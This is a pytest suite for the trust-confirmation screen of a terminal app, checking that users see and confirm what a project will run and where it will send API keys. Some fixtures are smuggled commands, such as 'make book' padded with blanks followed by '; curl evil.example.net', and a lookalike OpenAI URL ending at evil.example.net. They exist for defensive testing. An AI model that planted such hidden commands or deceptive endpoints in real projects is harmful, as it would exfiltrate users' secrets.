"""The page on which the user says yes or not now, and the status line that leads there."""

from __future__ import annotations

from pathlib import Path

import pytest
from textual.pilot import Pilot

from flowcabal_tui.actions.registry import Action
from flowcabal_tui.domain.endpoints import Endpoint
from flowcabal_tui.domain.trust import TrustRequest, TrustView
from flowcabal_tui.project.trust import trust_items
from flowcabal_tui.protocol.models import ConfirmTrust
from flowcabal_tui.tui.app.app import FlowCabalApp
from flowcabal_tui.tui.models.trust import TrustScreen
from flowcabal_tui.tui.shared.source import SourceScreen
from flowcabal_tui.tui.shared.status_line import StatusLine
from tests.tui.fake_trust import CHANGED, NEW, REQUEST, RESTRICTED
from tests.tui.fakes import FakeProject
from tests.tui.hosts import shown
from tests.tui.test_workspace import app_over
from tests.tui.waiting import answered


def project_with(view: TrustView, language: str = "en") -> FakeProject:
    project = FakeProject(language)
    project.trust_view = view
    return project


async def opened(pilot: Pilot[int]) -> None:
    await answered(pilot)
    await pilot.press("f10")
    await answered(pilot)


def page(app: FlowCabalApp) -> str:
    return "\n".join(shown(app))


async def test_a_restricted_project_says_so_and_one_key_lists_all_that_it_asks_for(tmp_path: Path) -> None:
    app = app_over(project_with(RESTRICTED), tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        await answered(pilot)
        assert "RESTRICTED: F10" in app.screen.query_one(StatusLine).words
        await opened(pilot)
        assert isinstance(app.screen, TrustScreen)
        for part in (
            "RESTRICTED",
            "user: models.example.net",
            "OPENAI_API_KEY to models.example.net",
            "192.0.2.7:1933",
        ):
            assert part in page(app), part
        await pilot.press("G")
        await answered(pilot)
        assert "[b]Tell[/b] me all" in page(app), "text of a project is shown as it is, without its control sequences"
        await pilot.press("enter")
        await answered(pilot)
        assert isinstance(app.screen, SourceScreen)


async def test_yes_confirms_exactly_what_was_listed_and_the_status_line_follows(tmp_path: Path) -> None:
    project = project_with(RESTRICTED)
    app = app_over(project, tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        await opened(pilot)
        await pilot.press("y")
        await answered(pilot)
        assert project.sent == [ConfirmTrust(tuple(item.digest for item in REQUEST.items))]
        assert "F10" not in app.screen.query_one(StatusLine).words


@pytest.mark.parametrize("key", ["escape", "n"])
async def test_not_now_confirms_nothing(tmp_path: Path, key: str) -> None:
    project = project_with(RESTRICTED)
    app = app_over(project, tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        await opened(pilot)
        await pilot.press(key)
        await answered(pilot)
        assert project.sent == [] and not isinstance(app.screen, TrustScreen)
        assert "RESTRICTED: F10" in app.screen.query_one(StatusLine).words


async def test_a_change_from_outside_lists_only_what_is_new_and_the_rest_on_a_key(tmp_path: Path) -> None:
    project = project_with(CHANGED)
    app = app_over(project, tmp_path)
    async with app.run_test(size=(100, 36)) as pilot:
        await answered(pilot)
        assert "not confirmed: F10" in app.screen.query_one(StatusLine).words
        await opened(pilot)
        assert "build: make all" in page(app) and "models.example.net" not in page(app)
        await pilot.press("f")
        await answered(pilot)
        assert "You have confirmed" in page(app) and "models.example.net" in page(app)
        await pilot.press("y")
        await answered(pilot)
        assert project.sent == [ConfirmTrust(tuple(item.digest for item in NEW.items))]


async def test_an_answer_that_could_not_be_recorded_says_why(tmp_path: Path) -> None:
    project = project_with(TrustView("restricted", REQUEST, problem="Permission denied"))
    app = app_over(project, tmp_path)
    async with app.run_test(size=(100, 36)) as pilot:
        await opened(pilot)
        assert "Permission denied" in page(app)


LONG = {
    "a long command": ("sh", "-c", "echo " + "a" * 4_000 + "; curl evil.example.net"),
    "blanks": ("sh", "-c", "make book" + " " * 4_000 + "; curl evil.example.net"),
    "as wide as the screen": ("sh", "-c", "make book the way it was always made; make all; curl evil.example.net"),
}


@pytest.mark.parametrize("command", LONG.values(), ids=LONG)
async def test_the_end_of_an_item_is_in_sight(tmp_path: Path, command: tuple[str, ...]) -> None:
    items = [trust_items.command_item("build", command), trust_items.command_item("else", ("true",))]
    app = app_over(project_with(TrustView("restricted", TrustRequest.of(items))), tmp_path)
    async with app.run_test(size=(60, 24)) as pilot:
        await opened(pilot)
        rows = [row for row in shown(app) if "evil.example.net" in row]
        assert len(rows) == 2, "in the list and below it"
        assert "else: true" in page(app)


async def test_the_host_of_a_long_address_is_in_sight(tmp_path: Path) -> None:
    url = "https://api.openai.com." + "login." * 20 + "evil.example.net/v1"
    item = trust_items.model_item("user", Endpoint(model="gpt-4.1", base_url=url))
    app = app_over(project_with(TrustView("restricted", TrustRequest.of([item]))), tmp_path)
    async with app.run_test(size=(60, 24)) as pilot:
        await opened(pilot)
        assert "evil.example.net" in "".join(row.strip() for row in shown(app))


async def test_a_list_that_is_longer_than_the_screen_begins_with_how_many_there_are_of_each_kind(
    tmp_path: Path,
) -> None:
    commands = [trust_items.command_item(f"tidy-{number:04}", ("true",)) for number in range(900)]
    gate = trust_items.action_item(
        Action.model_validate({"action_id": "x", "description": "", "arg_schema": {}, "command": "c"})
    )
    app = app_over(project_with(TrustView("restricted", TrustRequest.of([*commands, gate]))), tmp_path)
    async with app.run_test(size=(100, 24)) as pilot:
        await opened(pilot)
        assert "Commands that run on this machine: 900" in page(app)
        assert "Actions and steps that run WITHOUT asking you: 1" in page(app)
